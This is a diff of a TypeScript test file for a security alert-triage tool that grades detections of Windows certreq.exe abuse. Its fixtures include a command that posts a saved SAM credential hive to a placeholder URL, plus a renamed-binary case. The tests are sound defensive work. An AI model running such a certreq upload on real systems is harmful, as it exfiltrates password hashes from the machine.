@@ -1,10 +1,19 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { KNOWN_FP_NOTE, triage, type TriageInput } from '../../src/triage/severity.js';
+import { KNOWN_FP_NOTE, gradeCertreq, type TriageInput } from '../../src/triage/severity.js';
+import { builtinEnrichers, enrichAlert } from '../../src/enrich/index.js';
+import type { RuleMeta, Severity } from '../../src/model/alert.js';
+import type { WinEvent } from '../../src/model/event.js';
 
 const CERTREQ = 'C:\\Windows\\System32\\certreq.exe';
-const grade = (x: Partial<TriageInput>): ReturnType<typeof triage> =>
-  triage({ ruleId: 'certreq-download-upload', ruleTitle: 'Suspicious Certreq Command to Download or Upload', ruleLevel: 'high', image: CERTREQ, originalFileName: 'CertReq.exe', ...x });
+const grade = (x: Partial<TriageInput>): ReturnType<typeof gradeCertreq> =>
+  gradeCertreq({ image: CERTREQ, originalFileName: 'CertReq.exe', ...x });
+
+/** The enrichment stage's grade of an alert of this rule (the built-in enrichers). */
+const staged = (rule: { id: string; title: string; level?: Severity; extra?: Record<string, unknown> }, facts: { image?: string; originalFileName?: string; commandLine?: string }) => {
+  const meta: RuleMeta = { references: [], tags: [], falsepositives: [], source: 'test', extra: {}, ...rule };
+  return enrichAlert({ id: 'a', rule: meta, event: {} as WinEvent, matchedRules: [meta.id] }, facts, builtinEnrichers());
+};
 
 test('the README severity table, row by row', () => {
   const cases: Array<[Partial<TriageInput>, string, string]> = [
@@ -55,14 +64,23 @@ test('obfuscated switches raise a -Post one step but not an administrator verb',
   assert.match(admin.reason, /obfuscated/);
 });
 
-test('the companion rules are graded the same way; other Sigma rules keep their level', () => {
-  assert.equal(grade({ ruleId: 'certreq-post-url-no-winini', originalFileName: undefined, commandLine: 'certreq -Post -config https://x/ C:\\Users\\Public\\sam.save' }).severity, 'critical');
-  assert.equal(grade({ ruleId: 'certreq-renamed', image: 'C:\\Users\\Public\\svchost.exe', commandLine: 'svchost.exe -accept a.cer' }).grade, 'renamed');
-  const sigma = triage({ ruleId: '4480827a-9799-4232-b2c4-ccc6c4e9e12b', ruleTitle: 'Suspicious CertReq Command to Download', ruleLevel: 'low', image: CERTREQ, commandLine: 'certreq -Post -config https://x/ C:\\Users\\Public\\sam.save' });
+test('the companion rules are graded the same way; other Sigma rules keep their level unless they ask for certreq', () => {
+  const post = staged({ id: 'certreq-post-url-no-winini', title: 'x', level: 'high' }, { image: CERTREQ, commandLine: 'certreq -Post -config https://x/ C:\\Users\\Public\\sam.save' });
+  assert.equal(post.severity, 'critical');
+  assert.equal((post.enrichments?.['certreq'] as { upload_file?: string }).upload_file, 'C:\\Users\\Public\\sam.save');
+  assert.equal(staged({ id: 'certreq-renamed', title: 'x', level: 'high' }, { image: 'C:\\Users\\Public\\svchost.exe', originalFileName: 'CertReq.exe', commandLine: 'svchost.exe -accept a.cer' }).grade, 'renamed');
+  const sigmaRule = { id: '4480827a-9799-4232-b2c4-ccc6c4e9e12b', title: 'Suspicious CertReq Command to Download', level: 'low' as const };
+  const facts = { image: CERTREQ, commandLine: 'certreq -Post -config https://x/ C:\\Users\\Public\\sam.save' };
+  const sigma = staged(sigmaRule, facts);
   assert.equal(sigma.severity, 'low');
   assert.equal(sigma.grade, 'rule_level');
+  assert.equal(sigma.enrichments, undefined);
   assert.match(sigma.reason, /Suspicious CertReq Command to Download/);
-  assert.equal(triage({ ruleId: 'x', ruleTitle: 'X' }).severity, 'medium');
+  assert.equal(staged({ id: 'x', title: 'X' }, {}).severity, 'medium');
+  // The same Sigma rule asking for the certreq enricher in its procwatch block is graded by it.
+  const asked = staged({ ...sigmaRule, extra: { enrich: 'certreq' } }, facts);
+  assert.equal(asked.grade, 'post_sensitive_exfil');
+  assert.equal(asked.severity, 'critical');
 });
 
 test('reasons stay one line even when the command line has line breaks or is huge', () => {
